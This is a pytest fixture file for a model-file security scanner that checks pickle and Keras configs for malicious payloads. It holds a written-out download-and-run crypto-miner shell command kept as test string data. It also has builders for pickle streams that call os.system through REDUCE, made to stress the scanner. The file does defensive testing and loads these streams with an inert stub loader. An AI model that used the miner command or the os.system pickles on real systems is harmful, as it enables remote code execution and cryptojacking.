"""Shared fixtures and oracle helpers.

Two independent oracles anchor the suite: the interpreter's own reference
disassembler (``pickletools.genops``) for instruction transcripts, and the
real loader run inside a stubbed sacrificial unpickler for stream
semantics.  Everything derived is computed here, never invented.
"""

from __future__ import annotations

import contextlib
import io
import pickle
import pickletools
import random
import signal
import struct
import warnings
from pathlib import Path

import pytest

from modelsentry import absvm, kerascfg
from modelsentry.forge import emit_corpus
from modelsentry.policy import Disposition, Policy, default_policy

SEVERITY_ORDER = {"INFO": 10, "LOW": 20, "MEDIUM": 30, "HIGH": 40, "CRITICAL": 50}

# The published download-and-mine command, used strictly as string content in
# evidence-rendering checks; nothing ever executes it and the host is fake.
INERT_ATTACK_COMMAND = (
    "wget https://github.com/malicious_user/malicious_crypto_gpu_miner/releases/"
    "download/v1.2.2/malicious-crypto-gpu-miner.tar.gz && "
    "tar -xzf malicious-crypto-gpu-miner.tar.gz && "
    "cd malicious-crypto-gpu-miner && nohup ./mine &"
)


class Stalled(BaseException):
    """Raised by ``alarm`` when the work under it outlasts its time: not an
    Exception, so ``scan_file``'s catch-all cannot turn it into an entry."""


def _stalled(_signum, _frame):
    raise Stalled()


@contextlib.contextmanager
def alarm(seconds: float):
    """Fail the work under it with ``Stalled`` once ``seconds`` pass."""
    previous = signal.signal(signal.SIGALRM, _stalled)
    signal.setitimer(signal.ITIMER_REAL, seconds)
    try:
        yield
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0.0)
        signal.signal(signal.SIGALRM, previous)


@contextlib.contextmanager
def stdlib_escape_warnings_ignored():
    """Run a stdlib pickle loader on drawn bytes under this.  A STRING op
    with an unknown escape (``S'\\l'``) makes ``codecs.escape_decode`` warn
    ``DeprecationWarning``: ``pickle._Unpickler`` attributes it to
    pickle.py, the C ``pickle.Unpickler`` to the calling line.  The warning
    is ignored inside the block only, so the package's own warnings stay
    errors everywhere else."""
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", DeprecationWarning)
        yield


class StubUnpickler(pickle.Unpickler):
    """Sacrificial-environment loader: real stack machine, inert globals.

    Mirrors running the reference loader in a disposable sandbox; any
    callable the stream resolves becomes a recorder stub, so loading a
    marker fixture spawns nothing.
    """

    def __init__(self, data: bytes, calls: list | None = None):
        super().__init__(io.BytesIO(data))
        self.calls = calls if calls is not None else []

    def find_class(self, module, name):
        def stub(*args, **kwargs):
            self.calls.append((module, name, args))
            return f"<stub {module}.{name}>"

        return stub

    def persistent_load(self, pid):
        return f"<pid {pid!r}>"


def stub_load(data: bytes):
    return StubUnpickler(data).load()


def reference_transcript(stream: bytes) -> list[str]:
    """Normalized pickletools.genops transcript: one ``pos name arg`` line per op."""
    lines = []
    for opcode, arg, pos in pickletools.genops(stream):
        if isinstance(arg, bytearray):
            arg = bytes(arg)
        lines.append(f"{pos} {opcode.name} {arg!r}")
    return lines


def own_transcript(stream: bytes) -> list[str]:
    """Same normal form produced from this project's disassembler, over the
    first segment."""
    from modelsentry.disasm import OPCODES, decode_ops

    lines = []
    for code, offset, arg, _end in decode_ops(stream, 0):
        if isinstance(arg, tuple):
            arg = " ".join(arg)  # genops joins the GLOBAL/INST pair with a space
        lines.append(f"{offset} {OPCODES[code].name} {arg!r}")
    return lines


# ---------------------------------------------------------------------------
# Reference renderer (the oracle for ``absvm.render_value``)


def reference_render(value: object, limit: int = absvm.ARG_SUMMARY_CAP) -> str:
    """The put-per-piece renderer ``absvm.render_value`` replaced: every
    piece (a bracket, a separator, one value's text) goes through ``put``,
    which cuts at the budget and adds "…" unless the cut ends the piece."""
    out: list[str] = []
    budget = limit

    def put(text: str) -> None:
        nonlocal budget
        if budget <= 0:
            return
        if len(text) > budget:
            out.append(text[:budget] + "…")
            budget = 0
            return
        out.append(text)
        budget -= len(text)

    def walk(v: object, depth: int) -> None:
        if budget <= 0:
            return
        if depth > 24:
            put("…")
            return
        if not isinstance(v, absvm.AbstractValue):  # a plain literal
            # Its whole repr, cut by ``put``; an int past 10**4300 has no
            # decimal repr (``sys.int_max_str_digits``), so a placeholder.
            if isinstance(v, int) and not -(10**4300) < v < 10**4300:
                put(f"<int of {v.bit_length()} bits>")
            else:
                put(repr(v))
        elif isinstance(v, absvm.GlobalRef):
            put(f"{v.module}.{v.name}")
        elif isinstance(v, absvm.DynamicGlobalRef):
            put("<dynamic global>")
        elif isinstance(v, absvm.CallResult):
            walk(v.callee, depth + 1)
            put("(")
            if isinstance(v.args, tuple):
                for i, a in enumerate(v.args):
                    if budget <= 0:
                        break
                    if i:
                        put(", ")
                    walk(a, depth + 1)
            put(")")
        elif isinstance(v, absvm.Container):
            opener, closer = absvm._BRACKETS[v.kind]
            put(opener)
            pairs = v.kind == "dict"
            for i, item in enumerate(v.elements):
                if budget <= 0:
                    break
                if i:
                    put(", ")
                if pairs:
                    key, val = item
                    walk(key, depth + 1)
                    put(": ")
                    walk(val, depth + 1)
                else:
                    walk(item, depth + 1)
            put(closer)
        elif isinstance(v, absvm.PersistentRef):
            # The id is a summary of its own, capped at PID_SUMMARY_CAP: PERSID's
            # text raw, BINPERSID's value rendered.  Only the part the
            # remaining budget can show is rendered, which keeps a chain of
            # ids nested in ids short.
            room = max(0, min(absvm.PID_SUMMARY_CAP, budget - len("<persistent ")))
            if v.line:
                pid_text = v.pid[:room]
            else:
                pid_text = reference_render(v.pid, room)
            put(f"<persistent {pid_text}>")
        elif isinstance(v, absvm.ExtensionRef):
            put(f"<extension {v.code}>")
        else:
            put("<opaque>")

    walk(value, 0)
    return "".join(out)


# ---------------------------------------------------------------------------
# Reference path renderer (the oracle for ``kerascfg._render``)


def reference_json_path(link: tuple | None) -> str:
    """The renderer ``kerascfg._render`` replaced, which built the path by
    repeated concatenation: ``.key`` for an object member (no dot while the
    path is still empty), ``[index]`` for an array element, each key cut
    by ``absvm.clip``."""
    keys = []
    while link is not None:
        link, key = link
        keys.append(key)
    path = ""
    for key in reversed(keys):
        if type(key) is int:
            path = f"{path}[{key}]"
        else:
            key = absvm.clip(key)
            path = f"{path}.{key}" if path else key
    return path


# ---------------------------------------------------------------------------
# Reference layer walk (the oracle for ``kerascfg.walk_layers``)


def reference_walk_layers(
    config: object,
    anomalies: list[kerascfg.ConfigAnomaly] | None = None,
    payload_classes: frozenset[str] | set[str] | None = None,
) -> list[kerascfg.LayerRecord]:
    """The walk ``kerascfg.walk_layers`` replaced: a recursion, with
    ``isinstance`` tests and two key compares for every dict entry."""
    records: list[kerascfg.LayerRecord] = []
    wants_payload = frozenset(payload_classes) if payload_classes is not None else frozenset({"Lambda"})

    def note(kind: str, path: str, message: str) -> None:
        if anomalies is not None:
            anomalies.append(kerascfg.ConfigAnomaly(kind, path, message))

    def record_layer(layer: object, path: str) -> None:
        if not isinstance(layer, dict) or not isinstance(layer.get("class_name"), str):
            note("MalformedConfig", path, "layer entry is not an object with class_name")
            return
        payload = None
        if layer["class_name"] in wants_payload:
            payload = kerascfg.extract_code_payload(layer, path, anomalies)
        records.append(
            kerascfg.LayerRecord(
                class_name=layer["class_name"],
                layer_name=kerascfg._layer_name(layer),
                json_path=path,
                payload=payload,
            )
        )

    def visit(node: object, path: str) -> None:
        if isinstance(node, dict):
            for key, value in node.items():
                if key == "layers":
                    child_path = f"{path}.{key}" if path else str(key)
                    if isinstance(value, list):
                        for index, layer in enumerate(value):
                            layer_path = f"{child_path}[{index}]"
                            record_layer(layer, layer_path)
                            visit(layer, layer_path)
                    else:
                        note("MalformedConfig", child_path, "layers node is not an array")
                elif key == "layer" and isinstance(value, dict) and "class_name" in value:
                    child_path = f"{path}.{key}" if path else str(key)
                    record_layer(value, child_path)
                    visit(value, child_path)
                elif isinstance(value, (dict, list)):
                    visit(value, f"{path}.{key}" if path else str(key))
        elif isinstance(node, list):
            for index, item in enumerate(node):
                if isinstance(item, (dict, list)):
                    visit(item, f"{path}[{index}]")

    if not isinstance(config, dict):
        note("MalformedConfig", "", "config root is not a JSON object")
        return records
    visit(config, "")
    return records


def reference_holders(value: object) -> list[dict]:
    """The objects of a decoded config that hold a ``layers`` or a ``layer``
    key, each after the objects inside it: the order in which a JSON decoder
    finishes them."""
    holders: list[dict] = []

    def visit(node: object) -> None:
        children = node.values() if isinstance(node, dict) else node if isinstance(node, list) else ()
        for child in children:
            visit(child)
        if isinstance(node, dict) and ("layers" in node or "layer" in node):
            holders.append(node)

    visit(value)
    return holders


# ---------------------------------------------------------------------------
# Reference policy lookup (the oracle for ``policy.classify_global``)


def _reference_pattern_matches(pattern: str, text: str) -> bool:
    if pattern.endswith("*"):
        return text.startswith(pattern[:-1])
    return pattern == text


def reference_best_match(entries, module: str, name: str):
    """The linear scan ``classify_global`` replaced: the most specific entry
    matching (module, name), with its specificity (exact patterns, then
    pattern length); the first listed wins a tie.  None when nothing
    matches."""
    best = None
    for entry in entries:
        if _reference_pattern_matches(entry.module, module) and _reference_pattern_matches(entry.name, name):
            exact = (not entry.module.endswith("*")) + (not entry.name.endswith("*"))
            spec = (exact, len(entry.module.rstrip("*")) + len(entry.name.rstrip("*")))
            if best is None or spec > best[0]:
                best = (spec, entry)
    return best


def reference_classify_global(module: str, name: str, policy: Policy):
    """``classify_global`` over two linear scans: deny wins ties."""
    best_deny = reference_best_match(policy.deny, module, name)
    best_allow = reference_best_match(policy.allow, module, name)
    if best_deny is not None and (best_allow is None or best_deny[0] >= best_allow[0]):
        entry = best_deny[1]
        return (Disposition("deny", entry.severity), f"{entry.module}.{entry.name}")
    if best_allow is not None:
        entry = best_allow[1]
        return (Disposition("allow"), f"{entry.module}.{entry.name}")
    return (Disposition("unknown"), None)


# ---------------------------------------------------------------------------
# Benign stream generation (for the semantics and transcript oracles)


def random_benign_value(rng: random.Random, protocol: int, depth: int = 0) -> object:
    """A value the real pickler serializes with container/primitive opcodes only.

    Kinds that pickle through REDUCE at low protocols (sets, bytes) are only
    produced where the stream stays call-free, keeping the abstract graph
    directly comparable to the loaded object.
    """
    leaf_kinds = ["none", "bool", "int", "bigint", "float", "str"]
    if protocol >= 3:
        leaf_kinds.append("bytes")
    kinds = list(leaf_kinds)
    if depth < 3:
        kinds += ["list", "tuple", "dict"]
        if protocol >= 4:
            kinds += ["set", "frozenset"]
    kind = rng.choice(kinds)
    if kind == "none":
        return None
    if kind == "bool":
        return rng.random() < 0.5
    if kind == "int":
        return rng.randint(-1000, 70000)
    if kind == "bigint":
        return rng.randint(-(2**70), 2**70)
    if kind == "float":
        return rng.choice([0.0, -1.25, 3.5, 1e300, -2.75]) * rng.randint(1, 9)
    if kind == "str":
        words = ["alpha", "beta", "gamma", "x" * 40, "naïve", "λx", ""]
        return rng.choice(words)
    if kind == "bytes":
        return bytes(rng.randrange(256) for _ in range(rng.randint(0, 12)))
    if kind == "list":
        return [random_benign_value(rng, protocol, depth + 1) for _ in range(rng.randint(0, 4))]
    if kind == "tuple":
        return tuple(
            random_benign_value(rng, protocol, depth + 1) for _ in range(rng.randint(0, 4))
        )
    if kind == "dict":
        return {
            f"k{i}_{rng.randint(0, 99)}": random_benign_value(rng, protocol, depth + 1)
            for i in range(rng.randint(0, 4))
        }
    if kind == "set":
        return {rng.randint(0, 1000) for _ in range(rng.randint(0, 5))}
    return frozenset(rng.randint(0, 1000) for _ in range(rng.randint(0, 5)))


def benign_streams(count: int, seed: int = 7) -> list[tuple[str, bytes, object]]:
    """(name, stream, value) triples across protocols 0/2/4 (plus one 5)."""
    rng = random.Random(seed)
    out = []
    protocols = [0, 2, 4]
    for index in range(count):
        proto = protocols[index % len(protocols)]
        value = random_benign_value(rng, proto)
        out.append((f"benign_{index}_p{proto}", pickle.dumps(value, proto), value))
    return out


# Handcrafted single-purpose streams exercising the rarely-emitted opcodes.
RARE_OPCODE_STREAMS: list[tuple[str, bytes]] = [
    ("ext1", b"\x80\x02\x82\x07."),
    ("ext2", b"\x80\x02\x83\x07\x00."),
    ("ext4", b"\x80\x02\x84\x07\x00\x00\x00."),
    ("long4", b"\x80\x02\x8b\x02\x00\x00\x00\xff\x7f."),
    ("long4_empty", b"\x80\x02\x8b\x00\x00\x00\x00."),
    ("binstring", b"T\x03\x00\x00\x00abc."),
    ("short_binstring", b"U\x03abc."),
    ("string_p0", b"S'abc'\n."),
    ("string_escapes", rb"S'a\n\x00b'" + b"\n."),
    ("unicode_p0", b"V\\u00e9clair\n."),
    ("persid", b"Pweights.0\n."),
    ("binpersid", b"U\x02idQ."),
    ("dup", b"(N2t."),
    ("pop", b"NN0."),
    ("pop_mark", b"N(NN1."),
    ("long_binget_binput", b"]r\x05\x00\x00\x00j\x05\x00\x00\x00a."),
    ("binunicode8", b"\x80\x04\x8d\x03\x00\x00\x00\x00\x00\x00\x00abc."),
    ("binbytes8", b"\x80\x04\x8e\x03\x00\x00\x00\x00\x00\x00\x00abc."),
    ("bytearray8", b"\x80\x05\x96\x03\x00\x00\x00\x00\x00\x00\x00abc."),
    ("newobj", b"\x80\x02cmod\nCls\n)\x81."),
    ("newobj_ex", b"\x80\x04\x8c\x03mod\x8c\x03Cls\x93)}\x92."),
    ("obj", b"(cmod\nCls\nNo."),
    ("inst", b"(Vx\nimod\nCls\n."),
    ("additems", b"\x80\x04\x8f(K\x01K\x02\x90."),
    ("frozenset_op", b"\x80\x04(K\x01K\x02\x91."),
    ("next_buffer", b"\x80\x05\x97."),
    ("readonly_buffer", b"\x80\x05\x97\x98."),
    ("text_get_put", b"]p5\ng5\na."),
    ("dict_p0", b"(dVk\nI1\ns."),
    ("binfloat", b"\x80\x02G?\xf4\x00\x00\x00\x00\x00\x00."),
]


def transcript_stream_set() -> list[tuple[str, bytes]]:
    """Deterministic set of >= 50 valid streams across protocols 0/2/4.

    Mixes the attack shapes with generated benign values; used for the
    transcript-equivalence check and its committed golden file.
    """
    from modelsentry.forge import (
        DEFAULT_MARKER,
        benign_state_dict_pickle,
        emit_dynamic_global_pickle,
        emit_injected_pickle,
        emit_reduce_payload_pickle,
    )

    streams: list[tuple[str, bytes]] = []
    for proto in (0, 2, 4):
        streams.append((f"reduce_p{proto}", emit_reduce_payload_pickle(DEFAULT_MARKER, proto)))
        streams.append(
            (
                f"injected_p{proto}",
                emit_injected_pickle([1, {"a": "b"}], DEFAULT_MARKER, proto),
            )
        )
    streams.append(("dynamic_p4", emit_dynamic_global_pickle(4)))
    streams.append(("state_dict_p2", benign_state_dict_pickle()))
    for name, stream, _ in benign_streams(45, seed=11):
        streams.append((name, stream))
    return streams


# ---------------------------------------------------------------------------
# Hostile recipes: an ``os.system`` call behind a value graph that is cheap to
# write but expensive to walk naively

_OS_SYSTEM = b"cos\nsystem\n"


def memo_sharing(depth: int) -> bytes:
    """m[0] = 'x', m[i] = (m[i-1], m[i-1]); then os.system(m[depth])."""
    out = [b"\x80\x02", _OS_SYSTEM, b"X\x01\x00\x00\x00x", b"q\x00", b"0"]
    for index in range(1, depth + 1):
        out += [b"h" + bytes([index - 1]), b"h" + bytes([index - 1]), b"\x86"]
        out += [b"q" + bytes([index]), b"0"]
    out += [b"h" + bytes([depth]), b"\x85R."]
    return b"".join(out)


def deep_nesting(depth: int) -> bytes:
    """``depth`` EMPTY_LISTs folded by APPENDs into one nested list, passed to the call."""
    return b"\x80\x02" + _OS_SYSTEM + b"]" * depth + b"a" * (depth - 1) + b"\x85R."


def shared_list_calls(size: int, calls: int) -> bytes:
    """One memoized ``size``-element list, passed to the memoized global ``calls`` times."""
    words = b"".join(b"\x8c\x04" + b"w%03d" % (index % 1000) for index in range(size))
    out = [b"\x80\x02]q\x00(", words, b"e", _OS_SYSTEM, b"q\x01", b"0"]
    out += [b"h\x01h\x00\x85R0" * calls, b"."]
    return b"".join(out)


def aliased_list_calls(size: int, calls: int) -> bytes:
    """One ``size``-element list BINPUT under each of indices 1 to 255,
    passed ``calls`` times to the global memoized under index 0, each time
    through the next of the list's indices in turn."""
    words = b"".join(b"\x8c\x04" + b"w%03d" % (index % 1000) for index in range(size))
    out = [b"\x80\x02", _OS_SYSTEM, b"q\x000](", words, b"e"]
    out += [b"q" + bytes([index]) for index in range(1, 256)]
    out += [b"h\x00h" + bytes([1 + call % 255]) + b"\x85R0" for call in range(calls)]
    out.append(b".")
    return b"".join(out)


def shared_long_bytes_calls(small: int, copies: int, calls: int) -> bytes:
    """One memoized list of ``small`` zero ints, then ``copies`` DUPs of one
    4,096-byte BINBYTES of NULs, whose repr is 16,387 characters long,
    passed to the memoized global ``calls`` times."""
    nuls = b"B" + struct.pack("<I", 4096) + bytes(4096)
    out = [b"\x80\x03]q\x00(", b"K\x00" * small, nuls, b"2" * (copies - 1), b"e"]
    out += [_OS_SYSTEM, b"q\x01", b"0", b"h\x01h\x00\x85R0" * calls, b"."]
    return b"".join(out)


def shared_dict_calls(size: int, calls: int) -> bytes:
    """One memoized dict of ``size`` plain pairs (``'k00000': 0`` and on),
    passed to the memoized global ``calls`` times."""
    pairs = b"".join(b"\x8c\x06k%05dJ" % index + struct.pack("<i", index) for index in range(size))
    out = [b"\x80\x02}q\x00(", pairs, b"u", _OS_SYSTEM, b"q\x01", b"0"]
    out += [b"h\x01h\x00\x85R0" * calls, b"."]
    return b"".join(out)


# ---------------------------------------------------------------------------
# Structural comparison against the real loader


def structural_match(node, real) -> bool:
    """Does the abstract graph mirror the loaded value, shape for shape?
    Both are trees or DAGs here: a cycle would recurse without end."""
    if not isinstance(node, absvm.AbstractValue):  # a literal
        return type(node) is type(real) and node == real
    if isinstance(node, absvm.Container):
        if node.kind == "list":
            return (
                isinstance(real, list)
                and len(real) == len(node.elements)
                and all(
                    structural_match(item, actual)
                    for item, actual in zip(node.elements, real)
                )
            )
        if node.kind == "tuple":
            return (
                isinstance(real, tuple)
                and len(real) == len(node.elements)
                and all(
                    structural_match(item, actual)
                    for item, actual in zip(node.elements, real)
                )
            )
        if node.kind == "dict":
            if not isinstance(real, dict) or len(real) != len(node.elements):
                return False
            for key, value in node.elements:
                literal = _resolve_literal(key)
                if literal not in real:
                    return False
                if not structural_match(value, real[literal]):
                    return False
            return True
        if node.kind in ("set", "frozenset"):
            expected_type = set if node.kind == "set" else frozenset
            literals = {_resolve_literal(item) for item in node.elements}
            return type(real) is expected_type and literals == set(real)
    return False


def _resolve_literal(node):
    if not isinstance(node, absvm.AbstractValue):  # a literal
        return node
    return object()  # never a key in the real dict


# ---------------------------------------------------------------------------
# ZIP end records


def with_entry_count(archive: bytes, count: int) -> bytes:
    """``archive`` with both entry counts of its end-of-central-directory
    record (this disk's and the total) set to ``count``."""
    at = archive.rindex(b"PK\x05\x06")
    return archive[: at + 8] + struct.pack("<HH", count, count) + archive[at + 12 :]


# Where each 32-bit field sits in a 46-byte central file header.
CENTRAL_FIELDS = {"crc": 16, "compressed_size": 20, "uncompressed_size": 24}


def with_central_field(archive: bytes, path: str, field: str, value: int) -> bytes:
    """``archive`` with one field of the central file header of the member
    named ``path`` (``crc``, ``compressed_size`` or ``uncompressed_size``)
    set to ``value``.  The local header and the data are left as they are."""
    blob = bytearray(archive)
    (pos,) = struct.unpack_from("<I", blob, blob.rindex(b"PK\x05\x06") + 16)
    while True:
        name_len, extra_len, comment_len = struct.unpack_from("<HHH", blob, pos + 28)
        if blob[pos + 46 : pos + 46 + name_len] == path.encode():
            struct.pack_into("<I", blob, pos + CENTRAL_FIELDS[field], value)
            return bytes(blob)
        pos += 46 + name_len + extra_len + comment_len


# ---------------------------------------------------------------------------
# Session corpus


@pytest.fixture(scope="session")
def corpus_dir(tmp_path_factory) -> Path:
    directory = tmp_path_factory.mktemp("corpus_root") / "corpus"
    emit_corpus(directory, seed=0)
    return directory


@pytest.fixture(scope="session")
def corpus_manifest(corpus_dir) -> list[dict]:
    import json

    return json.loads((corpus_dir / "corpus_manifest.json").read_text())["fixtures"]


@pytest.fixture(scope="session")
def policy():
    return default_policy()
